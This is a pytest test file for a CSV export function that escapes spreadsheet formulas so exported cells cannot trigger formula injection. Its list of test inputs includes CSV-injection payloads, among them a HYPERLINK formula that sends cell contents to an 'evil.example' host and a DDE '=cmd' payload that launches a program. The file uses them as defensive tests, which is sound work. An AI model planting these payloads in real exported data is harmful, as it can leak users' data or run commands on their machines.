"""CSV that is opened in a spreadsheet: no formula in it, no number harmed, every text kept."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from telos.cli.spreadsheets import MARK, safe_csv
from telos.science.simulate import DERIVED_SEED, Table, simulate_table
from tests.cli.outcomes.conftest import Run
from tests.cli.outcomes.test_change import ASKED, TABLE

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1", "﹢1+1", "﹣1+1", "﹫x"),
    *('=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0"),
    *(" =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1", "'=1+1", "''@x"),
    *("-", "+44 20 7946 0958", "=", "@", "-five", "--5", "+-5", "-1,2,3", "-5\n"),
)
HARMLESS = (
    *("12", "-12", "+12", "-0.5", "-0,5", "1e5", "-1.5e-3", "+2E+10", "0", "12a"),
    *("Noor", "a=b", "a-b", "x@y.example", "'tis", "’", "", "2026-03-02", "10:00", "–", "−3"),
)


def cells(written: bytes) -> list[list[str]]:
    text = written.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def taken_off(text: str) -> str:
    """What a reader does who wants the very text: one apostrophe less before a formula."""
    whole = cells(safe_csv(pl.DataFrame({"x": [text.removeprefix(MARK)]}), for_spreadsheets=False))
    return text.removeprefix(MARK) if whole[1][:1] == [text] else text


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_is_shown_as_text(text: str) -> None:
    assert cells(safe_csv(pl.DataFrame({"x": [text], "n": [1]}))) == [["x", "n"], [f"'{text}", "1"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert cells(safe_csv(pl.DataFrame({"x": [text], "n": [1]}))) == [["x", "n"], [text, "1"]]


def test_numbers_dates_and_gaps_stay_what_they_are() -> None:
    table = pl.DataFrame(
        {"n": [-3, None], "x": [-1.5, 2.0], "on": [date(2026, 3, 2), None], "is": [True, None]}
    )
    assert pl.read_csv(safe_csv(table), try_parse_dates=True).equals(table)


@pytest.mark.parametrize("kind", [pl.Categorical, pl.Enum(["=1+1", "calm"])])
def test_categories_are_texts_too(kind: pl.DataType) -> None:
    table = pl.DataFrame({"x": pl.Series(["=1+1", "calm", None], dtype=kind), "n": [1, 2, 3]})
    assert cells(safe_csv(table))[1:] == [["'=1+1", "1"], ["calm", "2"], ["", "3"]]


@pytest.mark.parametrize("name", ["=1+1", "＝x", "@x", "-x"])
def test_names_of_columns_are_guarded_too(name: str) -> None:
    assert cells(safe_csv(pl.DataFrame({name: [1]})))[0] == [f"'{name}"]


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=12), min_size=1))
def test_every_text_comes_back(texts: list[str]) -> None:
    back = [row[0] for row in cells(safe_csv(pl.DataFrame({"x": texts, "n": 1})))[1:]]
    assert [taken_off(text) for text in back] == texts


@given(st.sampled_from("=+-@＝＋－＠"), st.text(alphabet=st.characters(codec="utf-8")))
def test_no_cell_begins_a_formula(first: str, rest: str) -> None:
    cell = cells(safe_csv(pl.DataFrame({"x": [first + rest], "n": [1]})))[1][0]
    assert cell[0] not in "=+-@＝＋－＠\t\r" or cell.lstrip("+-").replace(",", ".")[0].isdigit()


def test_answers_of_the_command_are_safe(run: Run, tmp_path: Path) -> None:
    names = ("=1+1", "＝1+1", "＠x", "-7", "Ada")
    table = TABLE.splitlines()[0] + "\n"
    table += "".join(f"{n},pre,new,{24 - k}\n{n},post,new,{8 + k}\n" for k, n in enumerate(names))
    answer = run("change", table, *ASKED, "--method", "jt")
    assert answer.exit_code == 0, answer.err
    found = {row[0] for row in cells((tmp_path / "rows.csv").read_bytes())[1:]}
    assert found == {"'=1+1", "'＝1+1", "'＠x", "-7", "Ada"}


def test_invented_tables_hold_no_formula_to_begin_with() -> None:
    for kind in Table:
        table = simulate_table(kind, clients=40, parameters=DERIVED_SEED, seed=1)
        assert safe_csv(table, for_spreadsheets=False) == table.write_csv().encode()
